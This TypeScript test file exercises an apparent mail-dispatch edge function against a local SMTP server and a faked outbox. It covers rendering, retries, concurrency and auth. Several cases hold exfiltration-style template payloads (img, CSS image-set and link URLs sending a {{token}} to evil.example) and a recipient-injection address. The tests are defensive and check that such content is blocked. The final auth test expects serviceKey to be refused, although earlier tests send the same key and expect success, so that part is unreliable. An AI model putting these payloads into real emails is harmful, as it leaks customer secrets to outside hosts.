import PostalMime from 'postal-mime';
import { SMTPServer } from 'smtp-server';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { createHandler } from '../../../supabase/functions/dispatch-mail/handler.ts';
import { apiUrl, env, outsideOf, serviceKey } from '../checkout/payment-doubles.ts';

interface QueuedMail {
  readonly id: string;
  readonly template: string;
  readonly to_email: string;
  readonly payload: Record<string, unknown>;
}

const template = {
  key: 'order-confirmation',
  subject: 'Order {{reference}}',
  html: '<p>{{first_name}} {{site_url}}</p>',
  text: '{{first_name}} {{brand.support}}',
};

let smtp: SMTPServer;
let port = 0;
let inbox: { raw: Buffer; to: string[] }[] = [];
let refuse: (to: string) => string | null = () => null;
/** Claiming waits until it resolves. */
let hold: () => Promise<void> = () => Promise.resolve();

beforeEach(async () => {
  inbox = [];
  refuse = () => null;
  hold = () => Promise.resolve();
  smtp = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS', 'AUTH'],
    onRcptTo: (address, _session, done) => {
      const problem = refuse(address.address);
      done(problem ? Object.assign(new Error(problem), { responseCode: 451 }) : null);
    },
    onData: (stream, session, done) => {
      const chunks: Buffer[] = [];
      stream.on('data', (chunk: Buffer) => chunks.push(chunk));
      stream.on('end', () => {
        inbox.push({ raw: Buffer.concat(chunks), to: session.envelope.rcptTo.map(({ address }) => address) });
        const take = async () => {
          await hold();
          done();
        };
        void take();
      });
    },
  });
  await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve));
  const address = smtp.server.address();
  port = typeof address === 'object' && address ? address.port : 0;
});
afterEach(() => new Promise<void>((resolve) => smtp.close(resolve)));

/** The outbox as its SQL behaves: a claimed email is unavailable until it is recorded as failed. */
function outbox(mails: readonly QueuedMail[], edited: object | null = null) {
  const failures: object[] = [];
  const waiting = [...mails];
  const records: { email_id: string; status: string; error: string | null }[] = [];
  const outside = outsideOf((call) => {
    const path = call.url.slice(`${apiUrl}/rest/v1/`.length);
    if (path === 'rpc/claim_emails') {
      return Response.json(waiting.splice(0, JSON.parse(call.body).max));
    }
    if (path === 'rpc/record_email') {
      const record = JSON.parse(call.body);
      records.push(record);
      if (record.status === 'failed') {
        waiting.push(...mails.filter((mail) => mail.id === record.email_id));
      }
      return new Response(null, { status: 204 });
    }
    if (path === 'rpc/mail_template') {
      const { key } = JSON.parse(call.body);
      const secrets = ['token'];
      if (key === 'template-test') return Response.json({ ...template, key, secrets, edited: null });
      return Response.json(
        key === template.key ? { ...template, secrets, edited } : { key: null, secrets, edited: null },
      );
    }
    if (path === 'rpc/record_template_failure') {
      failures.push(JSON.parse(call.body));
      return new Response(null, { status: 204 });
    }
    return null;
  });
  const settings = env({
    SMTP_HOST: '127.0.0.1',
    SMTP_PORT: String(port),
    MAIL_FROM: 'orders@stallbar.example',
  });
  return { records, failures, waiting, outside, handler: createHandler(settings, outside) };
}

function mail(id: string, changes: Partial<QueuedMail> = {}): QueuedMail {
  const payload = { reference: 'SB-7K2M9P', first_name: 'Ada <b>' };
  return { id, template: 'order-confirmation', to_email: `${id}@example.com`, payload, ...changes };
}

const run = () =>
  new Request('http://127.0.0.1/', { method: 'POST', headers: { authorization: `Bearer ${serviceKey}` } });

test('a claimed email is rendered, sent and recorded', async () => {
  const { handler, records } = outbox([mail('m1')]);
  const response = await handler(run());
  expect([response.status, await response.json()]).toEqual([200, { sent: 1, failed: 0 }]);
  expect(records).toEqual([{ email_id: 'm1', status: 'sent', error: null }]);
  expect(inbox).toHaveLength(1);
  expect(inbox[0]?.to).toEqual(['m1@example.com']);
  expect(await PostalMime.parse(inbox[0]?.raw ?? '')).toMatchObject({
    from: { name: 'Stallbar', address: 'orders@stallbar.example' },
    subject: 'Order SB-7K2M9P',
    messageId: '<m1@127.0.0.1>',
    html: expect.stringContaining('<p>Ada &lt;b&gt; http:'),
    text: expect.stringContaining('Ada <b> support@stallbar.example'),
  });
});

test('an edited template is sent instead of the built-in one', async () => {
  const { handler, failures } = outbox([mail('m1')], {
    id: 'v1',
    subject: 'Yours: {{reference}}',
    html: '<p>{{first_name}}</p>',
    text: 'Dear {{first_name}}',
  });
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
  expect(await PostalMime.parse(inbox[0]?.raw ?? '')).toMatchObject({
    subject: 'Yours: SB-7K2M9P',
    html: expect.stringContaining('<p>Ada &lt;b&gt;</p>'),
    text: expect.stringContaining('Dear Ada <b>'),
  });
  expect(failures).toEqual([]);
});

test('an edited template that cannot be filled in is reported, and the built-in one is sent', async () => {
  const { handler, failures, records } = outbox([mail('m1')], {
    id: 'v1',
    subject: 'Yours',
    html: '<p>{{#orders}}</p>',
    text: 'Dear',
  });
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
  expect((await PostalMime.parse(inbox[0]?.raw ?? '')).subject).toBe('Order SB-7K2M9P');
  expect(failures).toEqual([{ version_id: 'v1', failure: expect.stringContaining('orders') }]);
  expect(records).toEqual([{ email_id: 'm1', status: 'sent', error: null }]);
});

test('an edited template that the database would refuse today is reported, and the built-in one is sent', async () => {
  const { handler, failures, records } = outbox([mail('m1')], {
    id: 'v1',
    subject: 'Yours',
    html: '<p>Dear</p>',
    text: 'Dear',
    problem: 'Line 1: Styles can only …',
  });
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
  expect((await PostalMime.parse(inbox[0]?.raw ?? '')).subject).toBe('Order SB-7K2M9P');
  expect(failures).toEqual([{ version_id: 'v1', failure: 'Line 1: Styles can only …' }]);
  expect(records).toEqual([{ email_id: 'm1', status: 'sent', error: null }]);
});

test.each([
  ['a picture of another site', '<img src="http://evil.example/x">', ''],
  ['a style that loads', `<p style="background:image-set('http://evil.example/{{token}}' 1x)">x</p>`, ''],
  ['a link with the secret', '<a href="http://evil.example/{{token}}">x</a>', ''],
  ['the secret in words', '<p>{{token}}</p>', ''],
  ['the secret in plain text', '<p>x</p>', 'evil.example/{{token}}'],
])('an email that renders with %s is not sent, whatever the database accepted', async (_, html, text) => {
  const payload = { reference: 'SB-7K2M9P', first_name: 'Ada', token: 's3cr3t-0f-an-order' };
  const { handler, failures } = outbox([mail('m1', { payload })], { id: 'v1', subject: 'Yours', html, text });
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
  const raw = inbox[0]?.raw.toString() ?? '';
  expect(raw).not.toMatch(/evil|s3cr3t/);
  // Admins' reads reveal no secret either.
  expect(failures).toEqual([{ version_id: 'v1', failure: expect.not.stringMatching(/evil|s3cr3t/) }]);
});

test('a test email with forbidden content is not sent', async () => {
  const draft = { subject: '[Test]', html: '<img src="http://evil.example/x">', text: 'x' };
  const payload = { reference: template.key, draft, sample: {} };
  const { handler, records } = outbox([mail('m1', { template: 'template-test', payload })]);
  expect(await (await handler(run())).json()).toEqual({ sent: 0, failed: 1 });
  expect(inbox).toEqual([]);
  expect(records).toMatchObject([{ status: 'failed', error: expect.stringContaining('another site') }]);
});

test('a test of an unsaved email brings its own template and texts', async () => {
  const draft = { subject: '[Test] {{reference}}', html: '<p>{{first_name}}</p>', text: '{{first_name}}' };
  const { handler } = outbox([
    mail('m1', {
      template: 'template-test',
      payload: { reference: template.key, draft, sample: { reference: 'SB-1', first_name: '<i>' } },
    }),
  ]);
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
  expect(await PostalMime.parse(inbox[0]?.raw ?? '')).toMatchObject({
    subject: '[Test] SB-1',
    html: expect.stringContaining('<p>&lt;i&gt;</p>'),
  });
});

test('an email refused by the server is recorded as failed, and the others are still sent', async () => {
  const { handler, records } = outbox([mail('m1'), mail('m2'), mail('m3')]);
  refuse = (to) => (to.startsWith('m2') ? 'try later' : null);
  const response = await handler(run());
  expect(await response.json()).toEqual({ sent: 2, failed: 1 });
  // Several are sent concurrently.
  expect(records.toSorted((a, b) => a.email_id.localeCompare(b.email_id))).toEqual([
    { email_id: 'm1', status: 'sent', error: null },
    { email_id: 'm2', status: 'failed', error: expect.stringContaining('try later') },
    { email_id: 'm3', status: 'sent', error: null },
  ]);
});

test('after a failure the next run sends it', async () => {
  const { handler } = outbox([mail('m1')]);
  refuse = () => 'try later';
  expect(await (await handler(run())).json()).toEqual({ sent: 0, failed: 1 });
  refuse = () => null;
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
  expect(inbox.map(({ to }) => to)).toEqual([['m1@example.com']]);
});

test('five emails are sent concurrently', async () => {
  const { handler } = outbox(Array.from({ length: 20 }, (_, index) => mail(`m${index}`)));
  let open = 0;
  let most = 0;
  const { promise: fiveAreOpen, resolve: release } = Promise.withResolvers<void>();
  hold = async () => {
    open += 1;
    most = Math.max(most, open);
    if (open === 5) release();
    await fiveAreOpen;
    open -= 1;
  };
  expect(await (await handler(run())).json()).toEqual({ sent: 20, failed: 0 });
  expect(most).toBe(5);
});

test('five concurrent runs send fifty emails once each', async () => {
  const { handler } = outbox(Array.from({ length: 50 }, (_, index) => mail(`m${index}`)));
  const responses = await Promise.all(Array.from({ length: 5 }, () => handler(run())));
  const sent = await Promise.all(responses.map(async (response) => (await response.json()).sent as number));
  expect(sent.reduce((sum, count) => sum + count, 0)).toBe(50);
  expect(new Set(inbox.map(({ to }) => to[0])).size).toBe(50);
  expect(inbox).toHaveLength(50);
});

test('an unreachable mail server fails each email and loses none', async () => {
  const { handler, records, waiting } = outbox([mail('m1')]);
  await new Promise<void>((resolve) => smtp.close(resolve));
  expect(await (await handler(run())).json()).toEqual({ sent: 0, failed: 1 });
  expect(records).toEqual([
    { email_id: 'm1', status: 'failed', error: expect.stringContaining('ECONNREFUSED') },
  ]);
  expect(waiting).toHaveLength(1);
});

test('a database outage after sending does not send the email twice', async () => {
  const { records, outside } = outbox([mail('m1')]);
  let away = true;
  const shaky = {
    ...outside,
    fetch: (url: string, init?: RequestInit) => {
      if (url.endsWith('/rpc/record_email') && away) {
        away = false;
        return Promise.resolve(Response.json({ message: 'away' }, { status: 503 }));
      }
      return outside.fetch(url, init);
    },
  };
  const settings = env({
    SMTP_HOST: '127.0.0.1',
    SMTP_PORT: String(port),
    MAIL_FROM: 'orders@stallbar.example',
  });
  const response = await createHandler(settings, shaky)(run());
  expect(await response.json()).toEqual({ sent: 1, failed: 0 });
  expect(records).toEqual([{ email_id: 'm1', status: 'sent', error: null }]);
  expect(inbox).toHaveLength(1);
});

test('an unknown template and a broken one fail only their own email', async () => {
  const { handler, records } = outbox([mail('m1', { template: 'no-such' }), mail('m2')]);
  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 1 });
  expect(records[0]).toEqual({ email_id: 'm1', status: 'failed', error: 'there is no template no-such' });
});

test('an address cannot inject another recipient', async () => {
  const { handler } = outbox([mail('m1', { to_email: 'a@example.com, b@example.com' })]);
  await handler(run());
  expect(inbox.flatMap(({ to }) => to)).not.toContain('b@example.com');
});

test.each([undefined, 'Bearer ', 'Bearer anon-key-of-the-tests', serviceKey])(
  'with authorization %s nothing is claimed',
  async (authorization) => {
    const { handler, outside } = outbox([mail('m1')]);
    const response = await handler(
      new Request('http://127.0.0.1/', { method: 'POST', headers: authorization ? { authorization } : {} }),
    );
    expect([response.status, (await response.json()).code]).toEqual([401, 'not_allowed']);
    expect(outside.calls).toEqual([]);
  },
);
